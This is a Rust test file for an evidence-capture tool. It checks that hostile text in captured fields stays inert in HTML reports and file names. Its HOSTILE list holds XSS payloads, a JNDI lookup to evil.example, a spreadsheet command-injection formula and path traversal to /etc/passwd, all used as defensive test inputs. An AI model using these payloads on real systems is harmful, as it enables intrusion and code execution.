//! Texts that were written to harm stay texts, in every field of every output.

#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    reason = "a test"
)]

mod common;

use breakwater_evidence::{
    Capture, Choice, Digest, Found, Identifiers, Opinion, Reason, Record, Told, Tool, from_canonical,
    to_canonical, verify,
};
use breakwater_transcript::{Contact, Row};
use common::Locker;
use proptest::prelude::*;

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "</style><script src=//evil.example></script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "--></title><svg/onload=alert(1)>",
    "&lt;script&gt;&amp;#x3c;",
    "{fingerprint} {{number}} ${jndi:ldap://evil.example}",
    "\u{202e}lmth.tropeR\u{2066}\u{200b}\u{feff}",
    "a\0b\u{1b}[31mred\u{7}\r\n\tc",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "Z\u{351}\u{34a}\u{300}\u{301}\u{302}a\u{315}l\u{321}go",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} مرحبا שלום",
    "javascript:alert(1)//https://x@y",
];

/// A capture whose every text is `text`.
fn all(text: &str) -> Capture {
    let some = || Some(text.to_owned());
    Capture {
        url: text.into(),
        title: text.into(),
        frames: vec![text.into()],
        contact: Contact { name: some(), handle: some(), profile: some(), ..Contact::default() },
        identifiers: Identifiers { contact: some(), conversation: some() },
        rows: vec![Row { text: text.into(), time: some(), ..Row::default() }],
        found: vec![Found { kind: text.into(), text: text.into(), message: 1 }],
        tool: Tool {
            name: text.into(),
            version: text.into(),
            build: text.into(),
            browser: text.into(),
            os: text.into(),
            language: text.into(),
            reader: text.into(),
            ..Tool::default()
        },
        reasons: vec![Reason::TextOnlyChosen],
        ..Capture::default()
    }
}

/// A package of a record, a note and an opinion made of `text`, and its report.
fn packed(text: &str) -> (Vec<u8>, String) {
    let mut locker = Locker::new();
    let receipt = locker.save(all(text), 0xa1, 0);
    let told = Told { who: text.into(), when: text.into(), reference: text.into() };
    locker.note(&receipt, text, told, 1);
    let opinion = Opinion {
        record: receipt.sha256(),
        pack: text.into(),
        level: text.into(),
        signals: vec![text.into()],
    };
    locker.opinion(&opinion, "000001-a1a1a1a1");
    let zip = locker.pack(&Choice { opinions: true, ..Choice::default() });
    let report = common::text_of(&zip, "report.html");
    (zip, report)
}

/// What a browser makes of the report: tags as they stand, and the text between them.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|part| part.split_once('>').map_or(part, |(tag, _)| tag)).collect()
}

#[test]
fn the_report_is_inert() {
    // The tags of a report depend on how many rows there are, not on what they say.
    let (_, harmless) = packed("harmless");
    let plain: Vec<_> = tags(&harmless).into_iter().filter(|tag| !tag.contains("span")).collect();
    for text in HOSTILE {
        let (zip, report) = packed(text);
        let report_tags: Vec<_> = tags(&report).into_iter().filter(|tag| !tag.contains("span")).collect();
        assert_eq!(report_tags, plain, "{text:?}");
        assert!(!report.contains(['\0', '\u{1b}', '\u{202e}', '\u{2066}', '\u{200b}']));
        let checked = verify(&zip);
        assert!(checked.holds(), "{checked}");
    }
}

#[test]
fn the_report_loads_nothing_and_runs_nothing() {
    let (_, report) = packed("x");
    assert!(report.contains("default-src 'none'"));
    assert!(!report.contains("<script") && !report.contains("http://") && !report.contains("https://"));
}

#[test]
fn names_of_files_hold_nothing_from_a_page() {
    for text in HOSTILE {
        let (zip, _) = packed(text);
        let (plain, _) = packed("harmless");
        let without_hash = |name: String| name.split_once('/').unwrap().1.to_owned();
        let names = |zip: &[u8]| common::names(zip).into_iter().map(without_hash).collect::<Vec<_>>();
        assert_eq!(names(&zip), names(&plain));
    }
}

#[test]
fn endless_words_are_cut_and_say_so() {
    let long = "é".repeat(600_000);
    let mut locker = Locker::new();
    let receipt = locker.save(all(&long), 0xa1, 0);
    let zip = locker.pack(&Choice::default());
    assert!(zip.len() < 1_500_000, "{}", zip.len());
    assert!(verify(&zip).holds());
    let json = common::text_of(&zip, "record.json");
    let record: Record = from_canonical(json.as_bytes()).unwrap();
    let words = &record.messages[0].words;
    assert_eq!(words.cut.as_ref().unwrap().bytes, 1_200_000);
    assert_eq!(words.cut.as_ref().unwrap().sha256, Digest::of(long.as_bytes()));
    assert_eq!(Digest::of(json.as_bytes()), receipt.sha256());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_text_is_kept_as_it_is_and_packs(text in any::<String>()) {
        let (zip, report) = packed(&text);
        prop_assert!(verify(&zip).holds());
        prop_assert!(!report.contains("<script"));
        let json = common::text_of(&zip, "record.json");
        let record: Record = from_canonical(json.as_bytes()).unwrap();
        prop_assert_eq!(&record.messages[0].words.text, &text);
        prop_assert_eq!(to_canonical(&record).unwrap(), json.as_bytes());
    }
}
